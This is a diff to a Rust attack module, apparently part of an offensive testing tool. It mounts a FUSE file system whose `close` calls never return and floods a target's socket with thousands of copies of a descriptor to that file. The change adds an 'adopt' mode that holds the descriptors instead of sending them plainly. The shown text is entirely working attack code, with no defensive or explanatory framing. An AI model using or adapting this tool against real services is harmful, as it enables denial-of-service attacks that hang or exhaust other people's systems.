@@ -1,5 +1,6 @@
-//! Sends a file of a FUSE file system whose `close` is never answered: `fuse DEVICE FOLDER COUNT`, which starts a process for
-//! what has the file open, `fuse-file FOLDER COUNT`.
+//! Sends a file of a FUSE file system whose `close` is never answered: `fuse DEVICE FOLDER COUNT HOW`, which starts a process
+//! for what has the file open, `fuse-file FOLDER COUNT HOW`. HOW is `sync`, beside requests that have no descriptor, or `adopt`,
+//! beside requests that have one.
 
 use std::convert::Infallible;
 use std::os::fd::AsRawFd;
@@ -16,27 +17,32 @@ const BATCH: usize = 500;
 const EACH: usize = 100;
 
 pub(crate) fn attack(target: &Target, args: &[&str]) -> Result<Infallible, String> {
-    let [device, folder, count] = *args else { return Err("DEVICE FOLDER COUNT are missing".into()) };
+    let [device, folder, count, how] = *args else {
+        return Err("DEVICE FOLDER COUNT HOW are missing".into());
+    };
     enter_namespaces().map_err(|error| format!("no namespaces: {error}"))?;
     mount_at(Path::new(folder), Path::new(device)).map_err(|error| format!("cannot mount: {error}"))?;
     let program = std::env::current_exe().map_err(|error| error.to_string())?;
     let address = target.address.to_string();
     let mut command = Command::new(program);
-    command.arg("fuse-file").arg(&target.socket).args([&address, folder, count]);
+    command.arg("fuse-file").arg(&target.socket).args([&address, folder, count, how]);
     let ended = command.status().map_err(|error| format!("no process for the file: {error}"))?;
     Err(format!("the process with the file has ended: {ended}"))
 }
 
 pub(crate) fn send_file(target: &Target, args: &[&str]) -> Result<Infallible, String> {
-    let [folder, count] = *args else { return Err("FOLDER COUNT are missing".into()) };
+    let [folder, count, how] = *args else { return Err("FOLDER COUNT HOW are missing".into()) };
     let count: usize = number(count)?;
     let file = open_in(Path::new(folder)).map_err(|error| format!("cannot open: {error}"))?;
     let mut sender = Sender::new(target);
-    let mut sent = 0;
+    let (mut sent, mut held) = (0, Vec::new());
     // Each close of a descriptor is a request to the file system, the last one or not.
     while sent < count && !sender.is_refused() {
         let batch = BATCH.min(count - sent);
-        sender.send(vec![file.as_raw_fd(); batch], EACH);
+        match how {
+            "adopt" => held.push(sender.adopt(vec![file.as_raw_fd(); batch], 1)),
+            _ => sender.send(vec![file.as_raw_fd(); batch], EACH),
+        }
         sent += batch;
     }
     hold(&format!("{sent} descriptors in {} packets", sender.packets))
